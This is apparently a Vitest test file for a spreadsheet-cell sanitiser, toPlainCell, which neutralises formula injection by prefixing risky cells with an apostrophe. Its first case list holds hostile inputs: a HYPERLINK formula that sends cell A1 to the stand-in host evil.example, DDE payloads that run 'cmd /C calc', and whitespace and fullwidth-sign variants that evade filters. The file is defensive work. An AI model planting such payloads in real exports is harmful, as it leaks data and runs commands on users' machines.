import { describe, expect, it } from 'vitest'
import { toPlainCell } from '../../../src/core/plain-cell.ts'

describe('a text of a stranger in a cell', () => {
  it.each([
    '=HYPERLINK("https://evil.example?"&A1,"Invoice")',
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    '@SUM(1+1)*cmd',
    '@ada.engines',
    '+SUM(A1)',
    '-A1',
    '+49 30 1234 ext. 5',
    '-',
    '+49=A1',
    '+(49)30*2',
    '+49\n=A1',
    '-5.2\t=A1',
    '\t=1+1',
    '\r=1+1',
    '\n=1+1',
    ' =1+1',
    '\u00a0=1+1',
    '\tAda',
    '\0=1',
    '＝1+1',
    '＋1',
    '－1',
    '＠SUM(1)',
  ])('begins no formula any more: %j', text => {
    expect(toPlainCell(text)).toBe(`'${text}`)
    expect(toPlainCell(toPlainCell(text))).toBe(`'${text}`)
  })

  it.each([
    '',
    'Ada',
    "O'Brien",
    "'=1+1",
    'a=b',
    'Smith-Jones',
    'Motörhead @ Wacken',
    '+49 30 123456',
    '+1 (555) 010-9999',
    '+49/30/1234',
    '+4930123456',
    '-5.2',
    '-1,234.50',
    '-3',
    '#hash',
    '名前',
    '%27',
  ])('stays as it is: %j', text => {
    expect(toPlainCell(text)).toBe(text)
  })
})
